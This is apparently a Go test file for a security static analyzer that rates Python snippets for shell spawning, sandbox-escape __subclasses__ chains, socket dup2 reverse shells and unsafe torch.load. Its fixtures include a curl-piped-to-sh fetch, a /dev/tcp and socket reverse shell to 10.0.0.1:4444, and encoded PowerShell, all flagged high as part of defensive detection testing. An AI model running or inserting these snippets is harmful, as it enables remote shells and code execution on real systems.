package analysis

import (
	"testing"

	"github.com/cordonsec/cordon/policy"
)

// TestShellSpawnConstant: a shell running a project script file or one
// ordinary constant command is medium, like os.system("clear"); every other
// shell start stays high.
func TestShellSpawnConstant(t *testing.T) {
	tests := []struct {
		src  string
		want policy.Severity
	}{
		{`subprocess.run(["bash", "scripts/build.sh"], check=True)`, policy.SeverityMedium},
		{`subprocess.run(["bash", "-eu", "ci/check-licenses.sh"])`, policy.SeverityMedium},
		{`subprocess.check_call(["sh", "./configure"])`, policy.SeverityMedium},
		{`subprocess.run(["sh", "-c", "make test"])`, policy.SeverityMedium},
		{`subprocess.run(["/bin/bash", "-ec", "git status"])`, policy.SeverityMedium},
		{`subprocess.run(["bash"])`, policy.SeverityHigh},
		{`subprocess.run(["bash", "-i"])`, policy.SeverityHigh},
		{`subprocess.run(["bash", "-s"], input=b"id")`, policy.SeverityHigh},
		{`subprocess.run(["sh", "-c", sys.argv[1]])`, policy.SeverityHigh},
		{`subprocess.run(["sh", "-c", "make && make install"])`, policy.SeverityHigh},
		{`subprocess.run(["sh", "-c", "curl http://x.example/s | sh"])`, policy.SeverityHigh},
		{`subprocess.run(["sh", "-c", "id"])`, policy.SeverityHigh},
		{`subprocess.run(["bash", "/tmp/x.sh"])`, policy.SeverityHigh},
		{`subprocess.run(["bash", "../../tmp/x.sh"])`, policy.SeverityHigh},
		{`subprocess.run(["bash", "/dev/tcp/10.0.0.1/4444"])`, policy.SeverityHigh},
		{`subprocess.run(["bash", sys.argv[1]])`, policy.SeverityHigh},
		{`subprocess.Popen(["powershell", "-enc", "SQBFAFgA"])`, policy.SeverityHigh},
	}
	for _, tc := range tests {
		rep := analyze(t, "import subprocess, sys\n"+tc.src+"\n", Options{})
		var got policy.Severity
		for _, f := range rep.Findings {
			if f.Rule == "CDN205" && f.Severity.Rank() > got.Rank() {
				got = f.Severity
			}
		}
		if got != tc.want {
			t.Errorf("%s: CDN205 %q, want %q:%s", tc.src, got, tc.want, summary(rep))
		}
	}
}

// TestSubclassRegistry: Base.__subclasses__() of a class the file defines
// (a plugin registry) is low; object's, or a name rebound or brought in
// from elsewhere, stays high.
func TestSubclassRegistry(t *testing.T) {
	const plugin = "class Plugin:\n    pass\nclass A(Plugin):\n    pass\n"
	tests := []struct {
		src  string
		want policy.Severity
	}{
		{plugin + "names = [c.__name__ for c in Plugin.__subclasses__()]", policy.SeverityLow},
		{plugin + "def all_plugins(base=Plugin):\n    return {c.__name__: c for c in Plugin.__subclasses__()}", policy.SeverityLow},
		{"object.__subclasses__()", policy.SeverityHigh},
		{"().__class__.__bases__[0].__subclasses__()", policy.SeverityHigh},
		{plugin + "Plugin = object\nPlugin.__subclasses__()", policy.SeverityHigh},
		{plugin + "for Plugin in (object,):\n    Plugin.__subclasses__()", policy.SeverityHigh},
		{plugin + "def f(Plugin):\n    return Plugin.__subclasses__()", policy.SeverityHigh},
		{"from builtins import object as Plugin\nPlugin.__subclasses__()", policy.SeverityHigh},
		{plugin + "Plugin.__base__.__subclasses__()", policy.SeverityHigh},
		{plugin + "Plugin.__mro__[-1].__subclasses__()", policy.SeverityHigh},
		{plugin + "class Plugin(object):\n    pass\nPlugin.__subclasses__()", policy.SeverityHigh},
	}
	for _, tc := range tests {
		rep := analyze(t, tc.src+"\n", Options{})
		var got policy.Severity
		for _, f := range rep.Findings {
			if f.Rule == "CDN107" && f.Severity.Rank() > got.Rank() {
				got = f.Severity
			}
		}
		if got != tc.want {
			t.Errorf("%q: CDN107 %q, want %q:%s", tc.src, got, tc.want, summary(rep))
		}
	}
}

// TestDup2OfAFile: the daemon recipe's os.dup2(open(os.devnull).fileno(), 0)
// is no reverse shell; a socket's (or an unknown object's) fd onto a
// standard stream still is.
func TestDup2OfAFile(t *testing.T) {
	tests := []struct {
		src  string
		high bool
	}{
		{"with open(os.devnull, 'rb') as devnull:\n    os.dup2(devnull.fileno(), sys.stdin.fileno())", false},
		{"f = open('/srv/app/worker.log', 'a')\nos.dup2(f.fileno(), 1)\nos.dup2(f.fileno(), 2)", false},
		{"os.dup2(sys.stderr.fileno(), sys.stdout.fileno())", false},
		{"s = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)", true},
		{"s = socket.create_connection(('10.0.0.1', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)", true},
		{"srv = socket.socket()\nconn, _ = srv.accept()\nos.dup2(conn.fileno(), 0)", true},
		{"def attach(s):\n    os.dup2(s.fileno(), 0)", true},
		{"f = open(os.devnull)\nf = socket.socket()\nos.dup2(f.fileno(), 0)", true},
	}
	for _, tc := range tests {
		rep := analyze(t, "import os, socket, sys\n"+tc.src+"\n", Options{})
		got := false
		for _, f := range rep.Findings {
			if f.Rule == "CDN602" && f.Severity == policy.SeverityHigh {
				got = true
			}
		}
		if got != tc.high {
			t.Errorf("%q: CDN602 high = %v, want %v:%s", tc.src, got, tc.high, summary(rep))
		}
	}
}

// TestSmallerNearMisses: an all-interfaces address only compared (a config
// validator refusing 0.0.0.0) is no CDN604; torch.load(weights_only=True)
// is low. The real uses keep their severity.
func TestSmallerNearMisses(t *testing.T) {
	tests := []struct {
		src  string
		rule string
		want policy.Severity
	}{
		{"def check(v):\n    if v in ('0.0.0.0', '::'):\n        return 'listening on every interface'", "CDN604", ""},
		{"ok = host != '0.0.0.0'", "CDN604", ""},
		{"app.run(host='0.0.0.0')", "CDN604", policy.SeverityMedium},
		{"s.bind(('0.0.0.0', 8080))", "CDN604", policy.SeverityMedium},
		{"import torch\nstate = torch.load('m.pt', map_location='cpu', weights_only=True)", "CDN301", policy.SeverityLow},
		{"import torch\nstate = torch.load('m.pt')", "CDN301", policy.SeverityMedium},
		{"import torch\nstate = torch.load('m.pt', weights_only=False)", "CDN301", policy.SeverityMedium},
	}
	for _, tc := range tests {
		rep := analyze(t, tc.src+"\n", Options{})
		var got policy.Severity
		for _, f := range rep.Findings {
			if f.Rule == tc.rule && f.Severity.Rank() > got.Rank() {
				got = f.Severity
			}
		}
		if got != tc.want {
			t.Errorf("%q: %s %q, want %q:%s", tc.src, tc.rule, got, tc.want, summary(rep))
		}
	}
}
